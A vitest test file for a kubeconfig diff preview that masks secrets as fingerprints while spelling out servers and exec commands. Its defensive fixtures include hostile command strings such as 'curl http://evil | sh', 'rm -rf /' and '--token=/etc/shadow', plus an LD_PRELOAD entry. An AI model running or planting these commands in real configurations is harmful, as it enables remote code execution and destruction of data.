import { expect, test } from 'vitest';
import { parseKubeconfig } from '../../../main/kubeconfig/kubeconfig.ts';
import { diffKubeconfigs } from '../../../main/kubeconfig/kubeconfig-diff.ts';
import { mergeIntoText } from '../../../main/kubeconfig/preview.ts';
import { OTHERS, sampleCluster } from './samples.ts';

const diffOf = (before: string, after: string) =>
  diffKubeconfigs(parseKubeconfig(before).yaml, parseKubeconfig(after).yaml);

/** Everything shown: the whole file as a new one. */
const shown = (text: string): string =>
  diffOf('', text)
    .lines.map((line) => line.text)
    .join('\n');

test('shows names, servers, commands and comments, and of everything else a fingerprint', () => {
  const text = shown(OTHERS);

  for (const open of [
    '# kept by hand',
    'https://corp.example # behind the VPN',
    'kubelogin',
    'get-token, --secret=[secret',
    'name: TOKEN',
    "namespace: 'team-a' # mine",
  ])
    expect(text).toContain(open);
  for (const secret of ['hunter2', 'S3cr3t', 'eyJhbGci', 'payload', 'verysecret', 'signature'])
    expect(text).not.toContain(secret);
  expect(text).toMatch(/token: \[secret [0-9a-f]{8}\] # rotate in May/);
});

test('shows certificates as fingerprint and expiry, keys as fingerprints that differ between previews', async () => {
  const cluster = await sampleCluster('prod');
  const incoming = await cluster.fetch();
  const [first, second] = [shown(incoming), shown(incoming)];

  expect(first).toMatch(/certificate-authority-data: \[certificate [0-9a-f]{16}, until 20\d\d-\d\d-\d\d\]/);
  expect(first).toMatch(/client-certificate-data: \[certificate [0-9a-f]{16}, until/);
  expect(first).toMatch(/client-key-data: \[secret [0-9a-f]{8}\]/);
  expect(first).not.toBe(second);
  for (const secret of incoming.match(/[A-Za-z0-9+/=]{40,}/g) ?? []) expect(first).not.toContain(secret.slice(0, 20));
});

test('has the line numbers of the real file, also behind values of several lines', () => {
  const before =
    'users:\n- name: a\n  user:\n    token: |\n      line one of a secret\n      line two of a secret\n    x: y\n- name: b\n';
  const { lines } = diffOf(before, before.replace('name: b', 'name: c'));

  expect(lines).toEqual([
    { kind: 'same', old: 5, new: 5, text: expect.stringMatching(/^ *\[…\]$/) as string },
    { kind: 'same', old: 6, new: 6, text: expect.stringMatching(/^ *\[…\]$/) as string },
    { kind: 'same', old: 7, new: 7, text: expect.stringMatching(/^ {4}x: \[secret/) as string },
    { kind: 'removed', old: 8, text: '- name: b' },
    { kind: 'added', new: 8, text: '- name: c' },
  ]);
});

test.each([
  ['a commented-out token', '# token: abc\nkind: Config\n', /abc/],
  ['a long word in a comment', '# QUJDREVGR0hJSktMTU5PUFFSU1Q\nkind: Config\n', /QUJDREVG/],
  ['another document', 'kind: Config\n---\npassword: hunter2\n', /hunter2/],
  ['a password in an address', 'clusters:\n- name: a\n  cluster: {server: "https://u:pw@host"}\n', /pw@/],
  ['a secret used as a name of a field', `QUJDREVGR0hJSktMTU5PUFFSU1QUJDREVGR0hJSktMTU5PUFFSU1Q: x\n`, /QUJDREVG/],
  ['an open field in the wrong place', 'users:\n- name: a\n  user: {server: hunter2, namespace: hunter2}\n', /hunter2/],
  ['a dot in a name', '"clusters.*.name": hunter2\n', /hunter2/],
  ['an unknown field', 'kind: Config\nmine: {server: hunter2}\n', /hunter2/],
  ['a folded secret', 'users:\n- name: a\n  user:\n    password: hunter\n      two2\n', /two2|hunter/],
])('hides %s', (_name, text, secret) => {
  expect(text).toMatch(secret);
  expect(shown(text)).not.toMatch(secret);
});

const many = (word: string): string => `x:\n${Array.from({ length: 30 }, (_, i) => `- ${word}${i}\n`).join('')}`;

test('is empty for equal texts, and cut beyond what can be shown', () => {
  expect(diffOf(OTHERS, OTHERS)).toEqual({ lines: [], isCut: false });
  const [before, after] = [many('a'), many('b')].map((text) => parseKubeconfig(text).yaml);
  const cut = (lines: number, length: number) => diffKubeconfigs(before!, after!, { lines, length });

  expect(cut(61, 10_000)).toMatchObject({ isCut: false, lines: { length: 61 } });
  expect(cut(60, 10_000)).toMatchObject({ isCut: true, lines: { length: 60 } });
  expect(cut(61, 100).isCut).toBe(true);
});

test('shows a long line in pieces of the same number', () => {
  const json = JSON.stringify({
    kind: 'Config',
    clusters: Array.from({ length: 50 }, (_, i) => ({ name: `cluster-${i}-${'x'.repeat(90)}` })),
  });
  const { lines } = diffOf('', json);

  expect(lines.length).toBeGreaterThan(5);
  expect(new Set(lines.map((line) => line.new))).toEqual(new Set([1]));
  expect(lines.every(({ text }) => text.length <= 1000)).toBe(true);
  expect(lines.map(({ text }) => text).join('')).toContain('cluster-49-');
});

const running = (exec: string): string => `users:\n- name: a\n  user:\n    exec:\n      command: sh\n${exec}`;

test.each([
  ['a command in a list', '      args: [-c, "curl http://evil | sh"]\n', 'curl http://evil | sh'],
  ['a command over lines', '      args:\n      - -c\n      - |\n        first\n        rm -rf /\n', 'rm -rf /'],
  ['what follows a telling word', '      args: [-c, "TOKEN=x; curl evil"]\n', 'TOKEN=x; curl evil'],
  ['a path behind a flag for secrets', '      args: [--token=/etc/shadow]\n', '--token=/etc/shadow'],
  ['a command behind a flag for secrets', '      args: [--secret, "sh -c evil"]\n', 'sh -c evil'],
  ['names of the environment', '      env: [{name: LD_PRELOAD, value: x}]\n', 'LD_PRELOAD'],
])('spells out %s', (_name, exec, open) => {
  expect(shown(running(exec))).toContain(open);
});

test.each([
  ['behind a flag', '      args: [login, --client-secret=hunter2/+x==]\n', '--client-secret=[secret'],
  ['after a flag', '      args: [login, --client-secret, hunter2]\n', '--client-secret, [secret'],
  ['in quotes', '      args: ["--oidc-token=hunter2"]\n', '"--oidc-token=[secret'],
])('hides the plain value of a secret %s and nothing else', (_name, exec, open) => {
  const text = shown(running(exec));

  expect(text).not.toContain('hunter2');
  expect(text).toContain(open);
});

test('hides of an address only who signs in', () => {
  const at = (url: string): string => shown(`clusters:\n- name: a\n  cluster: {proxy-url: "${url}", server: x}\n`);

  expect(at('http://ada:pw@evil.example:3128/x')).toMatch(/proxy-url: "http:\/\/\[secret \w+\]@evil\.example:3128\/x"/);
  expect(at('http://ada:p/w@evil.example')).not.toContain('p/w');
});

test('knows the lines that say where kubectl connects, what it runs and what it reads', () => {
  const text = `clusters:
- name: a
  cluster:
    server: https://a
    insecure-skip-tls-verify: true
    proxy-url: http://u:p@b
- {"name": b, "cluster": {"serv\\u0065r": "https://b"}}
users:
- name: a
  user:
    exec:
      command: sh
      args:
      - -c
    tokenFile: /x
    as: root
    password: x
`;
  const telling = diffOf('', text).lines.filter(({ isTelling }) => isTelling);

  expect(telling.map(({ new: at }) => at)).toEqual([4, 5, 6, 7, 12, 14, 15, 16]);
});

test('a merge shows CRLF files without their line ends', async () => {
  const cluster = await sampleCluster('prod');
  const rules = { kind: 'minos', options: { choice: 'refresh', setCurrent: false } } as const;
  const { diff } = mergeIntoText(OTHERS.replaceAll('\n', '\r\n'), [{ incoming: await cluster.fetch(), rules }]);

  expect(diff.lines.length).toBeGreaterThan(10);
  expect(diff.lines.some(({ text }) => text.includes('\r'))).toBe(false);
});
